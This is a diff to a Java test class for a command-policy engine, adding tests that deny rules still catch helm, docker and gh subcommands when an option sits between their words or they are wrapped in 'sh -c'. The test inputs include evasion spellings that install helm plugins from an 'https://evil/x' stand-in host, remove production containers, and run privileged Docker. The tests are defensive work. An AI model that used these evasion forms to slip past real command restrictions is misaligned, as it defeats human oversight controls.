@@ -208,6 +208,45 @@ class CobraCommandIndexTest {
     assertThat(ProgramOptions.COBRA_READINGS.sum() - before).isEqualTo(1);
   }
 
+  /**
+   * Review 13 (F8): the commands inside a wrapper are read once per decision too (a one-entry memo
+   * alternated between them, rule after rule), and a decision leaves nothing of its action on the
+   * thread (the argv may hold a password).
+   */
+  @Test
+  void oneDecisionReadsEachWrappedCommandOnceAndForgetsItsAction() {
+    PolicySet p =
+        policy(
+            """
+            rules:
+              - id: no-delete
+                effect: deny
+                command: { binary: [kubectl, helm], args: [delete] }
+              - id: no-uninstall
+                effect: deny
+                command: { binary: [kubectl, helm], args: [uninstall] }
+              - id: no-drain
+                effect: deny
+                command: { binary: [kubectl, helm], args: [drain] }
+            """);
+    Action a = ArgvEvasionTest.argv("sh", "-c", "kubectl get pods; helm list");
+    long before = ProgramOptions.COBRA_READINGS.sum();
+    assertThat(effect(p, a)).isEqualTo(Effect.DENY); // no rule allows it
+    assertThat(ProgramOptions.COBRA_READINGS.sum() - before).isEqualTo(2);
+    assertThat(CommandMatcher.remembersAnAction()).isFalse();
+    before = ProgramOptions.COBRA_READINGS.sum();
+    assertThat(
+            Fixtures.decide(
+                    p,
+                    Fixtures.human("m"),
+                    Fixtures.target("t"),
+                    ArgvEvasionTest.argv("sh", "-c", "kubectl get pods; helm uninstall x"))
+                .rule())
+        .isEqualTo("no-uninstall");
+    assertThat(ProgramOptions.COBRA_READINGS.sum() - before).isEqualTo(2);
+    assertThat(CommandMatcher.remembersAnAction()).isFalse();
+  }
+
   static Stream<Arguments> riskyForms() {
     return Stream.of(
         Arguments.of("docker run --privileged img", "--privileged"),
@@ -288,6 +327,10 @@ class CobraCommandIndexTest {
         Arguments.of("gh alias set mm !id", "--shell"),
         Arguments.of("gh extension install o/gh-x", "extension install"),
         Arguments.of("gh ext exec x", "extension exec"),
+        // review 13 (F3): an alias hidden as the value of an option the index does not know as a
+        // boolean is read as the command it names
+        Arguments.of("gh --future-bool ext install o/gh-x", "extension install"),
+        Arguments.of("gh --future-bool extensions upgrade x", "extension upgrade"),
         Arguments.of("gh -R o/r pr list", "-R"),
         Arguments.of("gh pr list --repo o/r", "--repo"));
   }
@@ -389,6 +432,67 @@ class CobraCommandIndexTest {
         .containsExactly("plugin", "install", "plugin", "add", "u");
     assertThat(ProgramOptions.cobraSpellings("kubectl", argv("delete x")))
         .containsExactly("delete", "x");
+  }
+
+  /**
+   * Review 13 (F1): an option between the two words of a command does not hide it from a deny rule
+   * for one of its spellings. cobra finds the subcommand past options (stripFlags, Traverse):
+   * {@code helm plugin --debug add} runs plugin add, which is plugin install; {@code helm plugin
+   * --namespace x add} too (a value option skips its value); docker's {@code container --help=false
+   * remove} is docker rm.
+   */
+  @Test
+  void aDenyRuleMatchesASubcommandSpelledWithAnOptionBetweenItsWords() {
+    PolicySet p =
+        policy(
+            """
+            rules:
+              - id: anything
+                effect: allow
+                command:
+                  binary: [helm, docker, gh]
+                  flags: { accept_risky: ["plugin install", "extension install"] }
+              - id: no-plugin-install
+                effect: deny
+                command: { binary: helm, args: [plugin, install] }
+              - id: no-docker-rm
+                effect: deny
+                command: { binary: docker, args: [rm] }
+              - id: no-container-rm
+                effect: deny
+                command: { binary: docker, args: [container, rm] }
+              - id: no-extension-install
+                effect: deny
+                command: { binary: gh, args: [extension, install] }
+            """);
+    // the deny rule itself decides (the allow rule would refuse a risky plugin install anyway)
+    for (List<String> c :
+        List.of(
+            List.of("helm plugin --debug add https://evil/x", "no-plugin-install"),
+            List.of("helm plugin --namespace x add https://evil/x", "no-plugin-install"),
+            List.of("helm plugin -n x add https://evil/x", "no-plugin-install"),
+            List.of("helm --debug plugin --debug add https://evil/x", "no-plugin-install"),
+            List.of("helm -n x plugin --kube-context c add https://evil/x", "no-plugin-install"),
+            List.of("docker container --help=false remove prod", "no-docker-rm"),
+            List.of("docker container --debug remove prod", "no-docker-rm"),
+            List.of("docker --debug container -D rm prod", "no-docker-rm"),
+            List.of("gh ext --help install o/gh-x", "no-extension-install"))) {
+      Decision d = Fixtures.decide(p, Fixtures.human("m"), Fixtures.target("t"), line(c.get(0)));
+      assertThat(d.effect()).as(c.get(0)).isEqualTo(Effect.DENY);
+      assertThat(d.rule()).as(c.get(0)).isEqualTo(c.get(1));
+    }
+    for (String l :
+        List.of(
+            "helm plugin --debug list", "docker container --help=false ls", "gh ext --help list")) {
+      assertThat(effect(p, line(l))).as(l).isEqualTo(Effect.ALLOW);
+    }
+    // both readings of the option, each with every spelling, from the command on
+    assertThat(ProgramOptions.cobraCommandWords("helm", argv("helm plugin -n x add u"), 1, false))
+        .containsExactly("plugin", "x", "add", "u");
+    assertThat(ProgramOptions.cobraCommandWords("helm", argv("helm plugin -n x add u"), 1, true))
+        .containsExactly("plugin", "add", "u");
+    assertThat(ProgramOptions.cobraCommandWords("helm", argv("helm un --debug x"), 1, true))
+        .containsExactly("uninstall", "x");
   }
 
   @Test
